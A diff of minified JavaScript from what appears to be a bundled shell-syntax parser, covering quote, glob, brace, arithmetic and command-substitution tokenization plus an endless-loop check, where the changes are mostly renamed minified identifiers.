+lh(y)&&rt(n,ch(y)+1,o)===i))break;let N=i+1,j=this.findClosingShellDelimiter(N,o,41,A===61);if(j===-1&&!r&&!e&&y>=Be||s===C.CommandStart&&A!==61&&j!==-1&&In(n,N,
+j)===j)break;m=!1;let xe=j===-1?o:j;if(i=j===-1?o:j+1,j===-1&&this.errors.push({message:"unterminated extended glob",pos:N-2}),g=n.charCodeAt(i-1),d){let V="("+
+n.slice(N,i);if(u+=V,c&&A!==61){let ye=N-2;for(;n.charCodeAt(ye)===10&&n.charCodeAt(ye-1)===92;)ye-=2;if(_.length>0){let ne=_.slice(0,-1);ye>E&&x.push({type:"Li\
+teral",pos:E,end:ye,value:ne,text:n.slice(E,ye)}),_=""}let U=u_[A];x.push({type:"ExtendedGlob",pos:ye,end:i,text:n.slice(ye,i),operator:U,pattern:n.slice(N,xe),
+parts:this.subFieldParts(N,xe)}),E=i}else c&&(_+=V,$=$||Ts(V))}continue}break}if(q===92){i++,i<o?n.charCodeAt(i)===10?(i++,h=!1):(y>=0&&y<Be&&(y=xt),p=!0,m=!1,h=
 !1,g=n.charCodeAt(i),d&&(u+=n[i],c&&(_+=n[i])),i++):(y>=0&&y<Be&&(y=xt),p=!0,m=!1,g=92,d&&(u+="\\",c&&(_+="\\")));continue}if(q===39){let A=i;y>=0&&y<Be&&(y=xt),
-p=!0,m=!1,h=!1,i++;let O=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;i>O&&(g=n.charCodeAt(i-1));let K=d?n.slice(O,i):"";d&&(u+=K),i<o?i++:this.errors.push({message:"u\
-nterminated single quote",pos:O-1}),c&&(A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_=""),x.push({type:"SingleQuoted",pos:A,end:i,value:K,
+p=!0,m=!1,h=!1,i++;let N=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;i>N&&(g=n.charCodeAt(i-1));let j=d?n.slice(N,i):"";d&&(u+=j),i<o?i++:this.errors.push({message:"u\
+nterminated single quote",pos:N-1}),c&&(A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_=""),x.push({type:"SingleQuoted",pos:A,end:i,value:j,
 text:n.slice(A,i)}),E=i);continue}if(q===34){let A=i;if(y>=0&&y<Be&&(y=xt),p=!0,m=!1,h=!1,i++,this.pos=i,this.readDoubleQuoted(),i=this.pos,this._dqEnd>A+1&&(g=
-n.charCodeAt(this._dqEnd-1)),this._dqHasExpansions&&(f=!0),d&&(u+=this._dqText),c){A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_="");let O=n.
-slice(A,i);x.push({type:"DoubleQuoted",pos:A,end:i,text:O,parts:this._dqParts??[{type:"Literal",pos:A+1,end:this._dqEnd,value:this._dqText,text:n.slice(A+1,this.
-_dqEnd)}]}),E=i}continue}if(q===36){m=!1;let A=i;y>=0&&y<Be&&(y=xt);let O=i+1<o?n.charCodeAt(i+1):0;(O===39||O===34)&&(p=!0),this.pos=i,this.readDollar(),i=this.
+n.charCodeAt(this._dqEnd-1)),this._dqHasExpansions&&(f=!0),d&&(u+=this._dqText),c){A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_="");let N=n.
+slice(A,i);x.push({type:"DoubleQuoted",pos:A,end:i,text:N,parts:this._dqParts??[{type:"Literal",pos:A+1,end:this._dqEnd,value:this._dqText,text:n.slice(A+1,this.
+_dqEnd)}]}),E=i}continue}if(q===36){m=!1;let A=i;y>=0&&y<Be&&(y=xt);let N=i+1<o?n.charCodeAt(i+1):0;(N===39||N===34)&&(p=!0),this.pos=i,this.readDollar(),i=this.
 pos,this._resultIsRaw||(h=!1),i>A&&(g=n.charCodeAt(i-1)),this._resultHasExpansion&&(f=!0),d&&(u+=this._resultText),c&&(this._resultPart?(A>E&&(x.push({type:"Lit\
 eral",pos:E,end:A,value:_,text:n.slice(E,A)}),_=""),x.push(this._resultPart),E=i):_+=this._resultText);continue}if(q===96){m=!1;let A=i;y>=0&&y<Be&&(y=xt),this.
 pos=i,this.readBacktickExpansion(),i=this.pos,h=!1,g=n.charCodeAt(i-1),f=!0,d&&(u+=this._resultText),c&&(A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.
-slice(E,A)}),_=""),x.push(this._resultPart),E=i);continue}if(q===123){y>=0&&y<Be&&(y=xt);let A=i+1<o?n.charCodeAt(i+1):0,O=A<=32||A===125?-1:this.scanBraceExpansion(
-i,T??(T=new Map));if(O>0){if(m=!1,g=n.charCodeAt(O-1),d){let K=n.slice(i,O);u+=K,c&&(i>E&&(x.push({type:"Literal",pos:E,end:i,value:_,text:n.slice(E,i)}),_=""),
-x.push({type:"BraceExpansion",pos:i,end:O,text:K,parts:this.subFieldParts(i+1,O-1)}),E=O)}i=O;continue}g=123,d&&(u+="{",c&&(_+="{")),i++;continue}i++}c&&i>E&&x.
+slice(E,A)}),_=""),x.push(this._resultPart),E=i);continue}if(q===123){y>=0&&y<Be&&(y=xt);let A=i+1<o?n.charCodeAt(i+1):0,N=A<=32||A===125?-1:this.scanBraceExpansion(
+i,T??(T=new Map));if(N>0){if(m=!1,g=n.charCodeAt(N-1),d){let j=n.slice(i,N);u+=j,c&&(i>E&&(x.push({type:"Literal",pos:E,end:i,value:_,text:n.slice(E,i)}),_=""),
+x.push({type:"BraceExpansion",pos:i,end:N,text:j,parts:this.subFieldParts(i+1,N-1)}),E=N)}i=N;continue}g=123,d&&(u+="{",c&&(_+="{")),i++;continue}i++}c&&i>E&&x.
 push({type:"Literal",pos:E,end:i,value:_,text:n.slice(E,i)}),this.pos=i,this._wordText=u,this._wordRaw=h,this._wordQuoted=p,this._wordHasExpansions=f,this._wordKeywordEligible=
 m,this._wordAssignmentState=y,c&&(this._wordParts=x.length>1||x.length===1&&x[0].type!=="Literal"?x:null,$&&s!==C.ArrayElement&&(this._wordParts=Bt(n,a,i,this._wordParts)??
 null))}readInnerWordText(e=!1,s=!1,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l="",c=this._buildParts,d,u="",p=0,f=!1,m=!1;for(c&&(d=[],p=i);i<o;){let h=n.
@@ -4803,7 +4803,7 @@ l,this.pos-2):""}readArithmeticExpansion(e){let s=this.pos+2,r=this.scanArithmet
 {message:"unterminated arithmetic expansion",pos:e});let n=this._buildParts||this._buildValue?this.src.slice(e,this.pos):"";this._resultText=n,this._resultIsRaw=
 !0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?this.arithmeticExpansion(e,n,r,s):void 0}arithmeticExpansion(e,s,r,n){return new Fr(e,this.pos,
 s,{source:this.src,body:r,offset:n,depth:this._nestingDepth,context:this.substitutionContext})}readArithmeticCommand(e,s){let r=this._buildValue;this._buildValue=
-!0;let n=this.scanArithmeticBody();this._buildValue=r,this._arithUnterminated&&this.errors.push({message:"unterminated arithmetic command",pos:s}),Se(e,b.ArithCmd,
+!0;let n=this.scanArithmeticBody();this._buildValue=r,this._arithUnterminated&&this.errors.push({message:"unterminated arithmetic command",pos:s}),Ce(e,b.ArithCmd,
 n,s,this.pos)}readCommandSubstitution(e){let s=this.pos;this.pos++;let r=this.extractBalanced();this._unbalanced&&this.errors.push({message:"unterminated comman\
 d substitution",pos:e});let n=this._buildParts||this._buildValue,o=n?this.src.slice(e,this.pos):"",i=!n||s===e+1?o:"$"+this.src.slice(s,this.pos);this._resultText=
 i,this._resultIsRaw=s===e+1,this._resultHasExpansion=!0,this._buildParts?this._resultPart=this.commandExpansion(e,o,s+1,r,!this._unbalanced):this._resultPart=void 0}readBraceCommandSubstitution(){
@@ -4850,38 +4850,38 @@ r)<=57;)r++;return r}if(n>=97&&n<=122||n>=65&&n<=90||n===95)for(r++;r<e.length;)
 break}return r}readAnsiCQuoted(){let e=this.pos-1,s=Rn(this.src,this.pos,this.srcEnd);return this.pos=s.end,s.closed||this.errors.push({message:"unterminated AN\
 SI-C quote",pos:e}),s.value}extractBalanced(e=!0,s=!1){let r=this.src,n=this.srcEnd,o=this._buildParts||this._buildValue,i=s?0:1,a=this.pos;this._unbalanced=!1;
 let l=e&&!s?this.substitutionContext.boundaries?.get(a):void 0;if(l!==void 0&&l<=n&&this._nestingDepth<256)return this.pos=l,o?r.slice(a,l-1):"";let c=!0;for(;!s&&
-this.pos<n;){let F=r.charCodeAt(this.pos);if(F===41){let ye=o?r.slice(a,this.pos):"";return this.pos++,ye}else{if(F===40||F===92||F===39||F===34||F===96||F===36&&
-(r.charCodeAt(this.pos+1)===39||r.charCodeAt(this.pos+1)===36||r.charCodeAt(this.pos+1)===123))break;if(F===60&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60)break;
-if(F===35&&c)break;if(F===99&&c&&this.pos+3<n&&r.charCodeAt(this.pos+1)===97&&r.charCodeAt(this.pos+2)===115&&r.charCodeAt(this.pos+3)===101&&(this.pos+4>=n||r.
-charCodeAt(this.pos+4)<128&&le[r.charCodeAt(this.pos+4)]&1))break;c=F<128&&(le[F]&1)!==0,this.pos++}}let d=0,u=0,p=[],f=null,m,h=-1,g=a>=2&&r.charCodeAt(a)===40&&
-r.charCodeAt(a-1)===40&&r.charCodeAt(a-2)===36,y=0,x=!1,_=s?[{close:34,depth:0}]:[],E=s?1:0,$=0,T,q=-1,A=-1,O=-1,K=-1,Ee=!1;for(;this.pos<n&&(i>0||_.length>0);){
-let F=r.charCodeAt(this.pos),ye=_.length===0?void 0:_[_.length-1];if(ye!==void 0&&ye.depth===i){let V=!1;if(F===92){this.pos=Math.min(this.pos+2,n);continue}if(F===
-ye.close){if(_.pop(),F===34?E--:$--,this.pos++,s&&i===0&&_.length===0)return"";continue}if(F===34)_.push({close:34,depth:i}),E++;else if(F===39&&ye.close===125){
-this.pos++,this.skipSQ();continue}else if(F===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.
-pos++;this.pos<n&&this.pos++;continue}else if(F===36){let ne=r.charCodeAt(this.pos+1);if(ne===39&&ye.close===125){this.pos+=2,this.skipAnsiCQuoted();continue}if(ne===
-123)_.push({close:125,depth:i}),$++,this.pos++;else if(ne===40)this.pos++,F=40,V=!0;else if(ne===36){this.pos+=r.charCodeAt(this.pos+2)===40?1:2;continue}}if(!x&&
-this._nestingDepth+Math.max(E,$)>256&&(this.errors.push({message:"maximum word nesting depth exceeded",pos:this.pos}),x=!0),!V){for(this.pos++;this.pos<n;){let ne=r.
-charCodeAt(this.pos);if(ne===92||ne===34||ne===36||ne===96||ne===125||ne===39)break;this.pos++}continue}}if(F===35&&K!==-1&&!g&&h<0&&e&&!Ee&&this._nestingDepth+
-(m?.length??0)<256&&In(r,K,n)===this.pos){Ee=!0;let V=m?.[m.length-1],ne=this.findSubstitutionEnd(V?.start??a,n,this._nestingDepth+(m?.length??0)+1);if(ne!==-1){
-if(V===void 0)return this.pos=ne,o?r.slice(a,ne-1):"";this.pos=ne-1,i=V.depth+1,d=0,u=0,p.length=V.parens+1,F=41}}if(F===40){let V=this.pos>a&&this.pos!==O?r.charCodeAt(
-this.pos-1):0,ne=V===36?this.pos-1:this.pos===A?q:-1,vo=ne!==-1||V===60||V===62||V===61||V===64||V===63||V===42||V===43||V===33||V===40&&p[p.length-1]===!1||g&&
-this.pos===a,Ka=ne!==-1&&r.charCodeAt(this.pos+1)!==40||(V===60||V===62)&&h<0&&!g;Ka&&((m??(m=[])).push({start:this.pos+1,dollar:ne,depth:i,parens:p.length,caseDepth:d,
-caseParens:u,arithBase:h,arithExtent:g,substitutions:y,checkedGrammar:Ee,pendingDelims:f}),d=0,u=0,h=-1,g=!1,Ee=!1,f=null),p.push(!vo),c=!0,!Ka&&h<0&&this.pos+1<
+this.pos<n;){let V=r.charCodeAt(this.pos);if(V===41){let ye=o?r.slice(a,this.pos):"";return this.pos++,ye}else{if(V===40||V===92||V===39||V===34||V===96||V===36&&
+(r.charCodeAt(this.pos+1)===39||r.charCodeAt(this.pos+1)===36||r.charCodeAt(this.pos+1)===123))break;if(V===60&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60)break;
+if(V===35&&c)break;if(V===99&&c&&this.pos+3<n&&r.charCodeAt(this.pos+1)===97&&r.charCodeAt(this.pos+2)===115&&r.charCodeAt(this.pos+3)===101&&(this.pos+4>=n||r.
+charCodeAt(this.pos+4)<128&&le[r.charCodeAt(this.pos+4)]&1))break;c=V<128&&(le[V]&1)!==0,this.pos++}}let d=0,u=0,p=[],f=null,m,h=-1,g=a>=2&&r.charCodeAt(a)===40&&
+r.charCodeAt(a-1)===40&&r.charCodeAt(a-2)===36,y=0,x=!1,_=s?[{close:34,depth:0}]:[],E=s?1:0,$=0,T,q=-1,A=-1,N=-1,j=-1,xe=!1;for(;this.pos<n&&(i>0||_.length>0);){
+let V=r.charCodeAt(this.pos),ye=_.length===0?void 0:_[_.length-1];if(ye!==void 0&&ye.depth===i){let U=!1;if(V===92){this.pos=Math.min(this.pos+2,n);continue}if(V===
+ye.close){if(_.pop(),V===34?E--:$--,this.pos++,s&&i===0&&_.length===0)return"";continue}if(V===34)_.push({close:34,depth:i}),E++;else if(V===39&&ye.close===125){
+this.pos++,this.skipSQ();continue}else if(V===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.
+pos++;this.pos<n&&this.pos++;continue}else if(V===36){let ne=r.charCodeAt(this.pos+1);if(ne===39&&ye.close===125){this.pos+=2,this.skipAnsiCQuoted();continue}if(ne===
+123)_.push({close:125,depth:i}),$++,this.pos++;else if(ne===40)this.pos++,V=40,U=!0;else if(ne===36){this.pos+=r.charCodeAt(this.pos+2)===40?1:2;continue}}if(!x&&
+this._nestingDepth+Math.max(E,$)>256&&(this.errors.push({message:"maximum word nesting depth exceeded",pos:this.pos}),x=!0),!U){for(this.pos++;this.pos<n;){let ne=r.
+charCodeAt(this.pos);if(ne===92||ne===34||ne===36||ne===96||ne===125||ne===39)break;this.pos++}continue}}if(V===35&&j!==-1&&!g&&h<0&&e&&!xe&&this._nestingDepth+
+(m?.length??0)<256&&In(r,j,n)===this.pos){xe=!0;let U=m?.[m.length-1],ne=this.findSubstitutionEnd(U?.start??a,n,this._nestingDepth+(m?.length??0)+1);if(ne!==-1){
+if(U===void 0)return this.pos=ne,o?r.slice(a,ne-1):"";this.pos=ne-1,i=U.depth+1,d=0,u=0,p.length=U.parens+1,V=41}}if(V===40){let U=this.pos>a&&this.pos!==N?r.charCodeAt(
+this.pos-1):0,ne=U===36?this.pos-1:this.pos===A?q:-1,vo=ne!==-1||U===60||U===62||U===61||U===64||U===63||U===42||U===43||U===33||U===40&&p[p.length-1]===!1||g&&
+this.pos===a,Ka=ne!==-1&&r.charCodeAt(this.pos+1)!==40||(U===60||U===62)&&h<0&&!g;Ka&&((m??(m=[])).push({start:this.pos+1,dollar:ne,depth:i,parens:p.length,caseDepth:d,
+caseParens:u,arithBase:h,arithExtent:g,substitutions:y,checkedGrammar:xe,pendingDelims:f}),d=0,u=0,h=-1,g=!1,xe=!1,f=null),p.push(!vo),c=!0,!Ka&&h<0&&this.pos+1<
 n&&r.charCodeAt(this.pos+1)===40&&(h=i),ne!==-1&&(Ka?y++:(T??(T=[])).push(i),y+(T?.length??0)+this._nestingDepth+(s?0:1)>256&&!x&&(this.errors.push({message:"ma\
-ximum command substitution nesting depth exceeded",pos:ne}),x=!0)),q=-1,A=-1,i++,d>0&&u++,this.pos++}else if(F===41){if(d>0&&u===0)this.pos++,c=!0;else{if(d>0&&
+ximum command substitution nesting depth exceeded",pos:ne}),x=!0)),q=-1,A=-1,i++,d>0&&u++,this.pos++}else if(V===41){if(d>0&&u===0)this.pos++,c=!0;else{if(d>0&&
 u--,i--,i===0&&!s){let ne=o?r.slice(a,this.pos):"";return this.pos++,ne}if(i<=h&&(h=-1),T!==void 0)for(;T.length>0&&T[T.length-1]>=i;)T.pop();c=p.pop()??!0,this.
-pos++;let V=m?.[m.length-1];V!==void 0&&V.depth===i&&(m.pop(),d=V.caseDepth,u=V.caseParens,h=V.arithBase,g=V.arithExtent,y=V.substitutions,Ee=V.checkedGrammar,f=
-V.pendingDelims)}K=this.pos}else if(F===92){if(this.pos>a&&r.charCodeAt(this.pos-1)===36){let V=rt(r,this.pos,n);V>this.pos&&r.charCodeAt(V)===40&&r.charCodeAt(
-V+1)!==40&&(q=this.pos-1,A=V)}this.pos++,this.pos<n&&(r.charCodeAt(this.pos)!==10&&(c=!1),this.pos++),O=this.pos}else if(F===36){let V=r.charCodeAt(++this.pos);
-V===39?(this.pos++,this.skipAnsiCQuoted()):V===36?this.pos++:V===123&&!m_(r.charCodeAt(this.pos+1))&&(_.push({close:125,depth:i}),$++,this.pos++),c=!1}else if(F===
-39)this.pos++,this.skipSQ(),c=!1;else if(F===34)_.push({close:34,depth:i}),E++,this.pos++,c=!1;else if(F===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==
-96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.pos++;this.pos<n&&this.pos++,c=!1}else if(F===60&&h<0&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60){
-if(this.pos+2<n&&r.charCodeAt(this.pos+2)===60)this.pos+=3;else{this.pos+=2;let V=this.pos<n&&r.charCodeAt(this.pos)===45;V&&this.pos++,this.skipSpacesAndTabs(),
-this.readHereDocDelimiter(),(this._hereDelim||this._hereQuoted)&&(f??(f=[])).push({delimiter:this._hereDelim,strip:V,quoted:this._hereQuoted})}c=!1}else if(F===
-10&&f){this.pos++;for(let V of f)this.skipHereDocBody(V.delimiter,V.strip,!0,V.quoted);f=null,c=!0}else if(F===35&&h<0&&!g&&c)for(;this.pos<n&&r.charCodeAt(this.
-pos)!==10;)this.pos++;else{let V=this.pos;for(;this.pos<n;){let ne=r.charCodeAt(this.pos);if(ne<128&&le[ne])break;this.pos++}if(this.pos>V){if(this.pos-V===4&&c&&
-h<0&&!g){let vo=r.charCodeAt(V);vo===99&&r.charCodeAt(V+1)===97&&r.charCodeAt(V+2)===115&&r.charCodeAt(V+3)===101?d++:vo===101&&r.charCodeAt(V+1)===115&&r.charCodeAt(
-V+2)===97&&r.charCodeAt(V+3)===99&&d>0&&(d--,d===0&&(u=0))}c=!1}else{let ne=r.charCodeAt(this.pos);c=ne<128&&(le[ne]&1)!==0,this.pos++}}}return this._unbalanced=
+pos++;let U=m?.[m.length-1];U!==void 0&&U.depth===i&&(m.pop(),d=U.caseDepth,u=U.caseParens,h=U.arithBase,g=U.arithExtent,y=U.substitutions,xe=U.checkedGrammar,f=
+U.pendingDelims)}j=this.pos}else if(V===92){if(this.pos>a&&r.charCodeAt(this.pos-1)===36){let U=rt(r,this.pos,n);U>this.pos&&r.charCodeAt(U)===40&&r.charCodeAt(
+U+1)!==40&&(q=this.pos-1,A=U)}this.pos++,this.pos<n&&(r.charCodeAt(this.pos)!==10&&(c=!1),this.pos++),N=this.pos}else if(V===36){let U=r.charCodeAt(++this.pos);
+U===39?(this.pos++,this.skipAnsiCQuoted()):U===36?this.pos++:U===123&&!m_(r.charCodeAt(this.pos+1))&&(_.push({close:125,depth:i}),$++,this.pos++),c=!1}else if(V===
+39)this.pos++,this.skipSQ(),c=!1;else if(V===34)_.push({close:34,depth:i}),E++,this.pos++,c=!1;else if(V===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==
+96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.pos++;this.pos<n&&this.pos++,c=!1}else if(V===60&&h<0&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60){
+if(this.pos+2<n&&r.charCodeAt(this.pos+2)===60)this.pos+=3;else{this.pos+=2;let U=this.pos<n&&r.charCodeAt(this.pos)===45;U&&this.pos++,this.skipSpacesAndTabs(),
+this.readHereDocDelimiter(),(this._hereDelim||this._hereQuoted)&&(f??(f=[])).push({delimiter:this._hereDelim,strip:U,quoted:this._hereQuoted})}c=!1}else if(V===
+10&&f){this.pos++;for(let U of f)this.skipHereDocBody(U.delimiter,U.strip,!0,U.quoted);f=null,c=!0}else if(V===35&&h<0&&!g&&c)for(;this.pos<n&&r.charCodeAt(this.
+pos)!==10;)this.pos++;else{let U=this.pos;for(;this.pos<n;){let ne=r.charCodeAt(this.pos);if(ne<128&&le[ne])break;this.pos++}if(this.pos>U){if(this.pos-U===4&&c&&
+h<0&&!g){let vo=r.charCodeAt(U);vo===99&&r.charCodeAt(U+1)===97&&r.charCodeAt(U+2)===115&&r.charCodeAt(U+3)===101?d++:vo===101&&r.charCodeAt(U+1)===115&&r.charCodeAt(
+U+2)===97&&r.charCodeAt(U+3)===99&&d>0&&(d--,d===0&&(u=0))}c=!1}else{let ne=r.charCodeAt(this.pos);c=ne<128&&(le[ne]&1)!==0,this.pos++}}}return this._unbalanced=
 !0,s&&m!==void 0&&m.length>0&&this.errors.push({message:"unterminated command substitution",pos:m[0].dollar}),o?r.slice(a,this.pos):""}};function bc(t){switch(t){case",":return 1;case"=":case"+=":case"-=":case"*=":case"/=":case"%=":case"<<=":case">>=":case"&=":case"|=":case"^=":return 2;case"||":
 return 4;case"&&":return 5;case"|":return 6;case"^":return 7;case"&":return 8;case"==":case"!=":return 9;case"<":case"<=":case">":case">=":return 10;case"<<":case"\
 >>":return 11;case"+":case"-":return 12;case"*":case"/":case"%":return 13;case"**":return 14;case"?":return 3;default:return-1}}function fh(t,e,s){for(;s>e;){let r=t.
@@ -4897,24 +4897,24 @@ return $===61?(n+=2,"^="):(n++,"^");case 63:return n++,"?";default:return null}}
 45||t.charCodeAt(n+1)===61)break;n++,l()}if(t.charCodeAt(n)===40){let $=1;for(n++;n<o&&$>0;){let T=s?.findArithmeticWordEnd?.(n+e,e+o)??n+e;if(T>n+e){n=T-e;continue}
 let q=t.charCodeAt(n++);q===40?$++:q===41&&$--}}else n<o&&t.charCodeAt(n)!==41&&t.charCodeAt(n)!==58&&h(0);l();let E=t.charCodeAt(n);(E===43||E===45)&&t.charCodeAt(
 n+1)===E&&(n+=2)}function u(E){l();let $=n;if($===o)return a($,$);let T=s?.embeddedWords.length??0,q=0;for(;;){if(d(),l(),t.charCodeAt(n)===58&&q>0){q--,n++;continue}
-let A=n,O=c();if(O===null||q===0&&bc(O)<E){n=A;break}O==="?"&&q++}return s&&(s.embeddedWords.length=T),a($,fh(t,$,n))}function p(E,$){if($>256)return u(E);let T=f(
-$);for(;l(),!(n>=o);){let q=n,A=c();if(!A)break;if(A==="?"){if(bc(A)<E){n=q;break}let F=p(1,$+1);l(),n<o&&t.charCodeAt(n)===58&&n++;let ye=p(3,$+1);T={type:"Ari\
-thmeticTernary",pos:T.pos,end:ye.end,test:T,consequent:F,alternate:ye};continue}let O=bc(A);if(O<E){n=q;break}let K=h_(A)?O:O+1,Ee=p(K,$+1);T={type:"ArithmeticB\
-inary",pos:T.pos,end:Ee.end,operator:A,left:T,right:Ee}}return T}function f(E){if(l(),E>256)return u(15);if(n>=o)return a(n,n);let $=n,T=t.charCodeAt(n),q=n+1<o?
+let A=n,N=c();if(N===null||q===0&&bc(N)<E){n=A;break}N==="?"&&q++}return s&&(s.embeddedWords.length=T),a($,fh(t,$,n))}function p(E,$){if($>256)return u(E);let T=f(
+$);for(;l(),!(n>=o);){let q=n,A=c();if(!A)break;if(A==="?"){if(bc(A)<E){n=q;break}let V=p(1,$+1);l(),n<o&&t.charCodeAt(n)===58&&n++;let ye=p(3,$+1);T={type:"Ari\
+thmeticTernary",pos:T.pos,end:ye.end,test:T,consequent:V,alternate:ye};continue}let N=bc(A);if(N<E){n=q;break}let j=h_(A)?N:N+1,xe=p(j,$+1);T={type:"ArithmeticB\
+inary",pos:T.pos,end:xe.end,operator:A,left:T,right:xe}}return T}function f(E){if(l(),E>256)return u(15);if(n>=o)return a(n,n);let $=n,T=t.charCodeAt(n),q=n+1<o?
 t.charCodeAt(n+1):0;if(T===43&&q===43){n+=2;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"++",operand:A,prefix:!0}}if(T===45&&q===45){n+=
 2;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"--",operand:A,prefix:!0}}if(T===33){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+
 e,end:A.end,operator:"!",operand:A,prefix:!0}}if(T===126){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"~",operand:A,prefix:!0}}if(T===
 43&&q!==43&&q!==61){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"+",operand:A,prefix:!0}}if(T===45&&q!==45&&q!==61){n++;let A=f(E+
 1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"-",operand:A,prefix:!0}}return m(E)}function m(E){let $=h(E);if(l(),n+1<o){let T=t.charCodeAt(n),q=t.
 charCodeAt(n+1);if(T===43&&q===43)return n+=2,{type:"ArithmeticUnary",pos:$.pos,end:n+e,operator:"++",operand:$,prefix:!1};if(T===45&&q===45)return n+=2,{type:"\
-ArithmeticUnary",pos:$.pos,end:n+e,operator:"--",operand:$,prefix:!1}}return $}function h(E){if(l(),n>=o)return a(n,n);let $=t.charCodeAt(n);if($===40){let K=n;
-n++;let Ee=p(0,E+1);return l(),n<o&&t.charCodeAt(n)===41&&n++,{type:"ArithmeticGroup",pos:K+e,end:n+e,expression:Ee}}if($===36){let K=n,Ee=s?.embeddedWords.length??
-0,F=g(),ye=s?.findArithmeticWordEnd?.(K+e,e+o)??n+e;return ye>n+e?(s&&(s.embeddedWords.length=Ee),n=ye-e,a(K,n,!0)):F}if($===96||$===34||$===39){let K=n;return n=
-(s?.findArithmeticWordEnd?.(K+e,e+o)??K+e+1)-e,a(K,n,!0)}let T=n,q=s?.embeddedWords.length??0,A=y(),O=s?.findArithmeticWordEnd?.(T+e,e+o)??n+e;return O>n+e?(s&&
-(s.embeddedWords.length=q),n=O-e,a(T,n,!0)):A}function g(){let E=n;if(n++,n>=o)return a(E,n);let $=t.charCodeAt(n);if($===40)if(n+1<o&&t.charCodeAt(n+1)===40){let T=s?.
+ArithmeticUnary",pos:$.pos,end:n+e,operator:"--",operand:$,prefix:!1}}return $}function h(E){if(l(),n>=o)return a(n,n);let $=t.charCodeAt(n);if($===40){let j=n;
+n++;let xe=p(0,E+1);return l(),n<o&&t.charCodeAt(n)===41&&n++,{type:"ArithmeticGroup",pos:j+e,end:n+e,expression:xe}}if($===36){let j=n,xe=s?.embeddedWords.length??
+0,V=g(),ye=s?.findArithmeticWordEnd?.(j+e,e+o)??n+e;return ye>n+e?(s&&(s.embeddedWords.length=xe),n=ye-e,a(j,n,!0)):V}if($===96||$===34||$===39){let j=n;return n=
+(s?.findArithmeticWordEnd?.(j+e,e+o)??j+e+1)-e,a(j,n,!0)}let T=n,q=s?.embeddedWords.length??0,A=y(),N=s?.findArithmeticWordEnd?.(T+e,e+o)??n+e;return N>n+e?(s&&
+(s.embeddedWords.length=q),n=N-e,a(T,n,!0)):A}function g(){let E=n;if(n++,n>=o)return a(E,n);let $=t.charCodeAt(n);if($===40)if(n+1<o&&t.charCodeAt(n+1)===40){let T=s?.
 findArithmeticExpansionEnd(E+e,e+o)??-1;if(T!==-1)n=T-e;else{n+=2;let q=1;for(;n<o&&q>0;)t.charCodeAt(n)===40&&t.charCodeAt(n+1)===40?(q++,n+=2):t.charCodeAt(n)===
-41&&t.charCodeAt(n+1)===41?(q--,n+=2):n++}}else{n++;let T=s?.findClosingParenthesis(n+e,e+o)??-1;if(T!==-1)n=T-e+1;else{let A=1;for(;n<o&&A>0;){let O=t.charCodeAt(
-n++);O===40?A++:O===41&&A--}}let q=t.slice(E,n);return s?s.commandExpansion(E+e,n+e,q):new kt("ArithmeticCommandExpansion",E+e,n+e,q)}else if($===123){let T=s?.
+41&&t.charCodeAt(n+1)===41?(q--,n+=2):n++}}else{n++;let T=s?.findClosingParenthesis(n+e,e+o)??-1;if(T!==-1)n=T-e+1;else{let A=1;for(;n<o&&A>0;){let N=t.charCodeAt(
+n++);N===40?A++:N===41&&A--}}let q=t.slice(E,n);return s?s.commandExpansion(E+e,n+e,q):new kt("ArithmeticCommandExpansion",E+e,n+e,q)}else if($===123){let T=s?.
 findClosingBrace(n+e+1,e+o)??-1;if(T!==-1)n=T-e+1;else{n++;let q=1;for(;n<o&&q>0;){let A=t.charCodeAt(n++);A===123?q++:A===125&&q--}}}else for(;n<o;){let T=t.charCodeAt(
 n);if(T>=97&&T<=122||T>=65&&T<=90||T>=48&&T<=57||T===95)n++;else break}return a(E,n,$===40||$===123)}function y(){let E=n;for(;n<o;){let $=t.charCodeAt(n);if($>=
 48&&$<=57||$>=65&&$<=90||$>=97&&$<=122||$===95||$===35)n++;else break}if(n>E&&n<o&&t.charCodeAt(n)===91){let $=s?.findClosingBracket?.(n+e+1,e+o)??-1;if($!==-1)
@@ -5106,7 +5106,7 @@ args.map(({text:n})=>n)].join(" ");return t==="while"?Oi.always_true.test(r):Oi.
 if(!e||e.wrappers.includes("timeout"))return!1;let{program:s,args:r,redirects:n}=e;return Oi.endless.test(`${s} ${ie([...r,...n.map(({path:o})=>o)]).text}`)}var E_=256,xh=64;function A_(t,e){let s=e.flatMap(({text:r},n)=>{let o=/^(?:!|-not)$/.test(e[n-1]?.text??""),i=/^-i?(name|path|wholename)$/.test(r)&&!o?e[n+1]?.
 text:void 0;return i===void 0?[]:[i.slice(i.lastIndexOf("/")+1)]});return t.flatMap(({text:r,glob:n})=>{let o=`${r.replace(/\/+$/,"")}/${"\uFFFC"}`;return s.length===
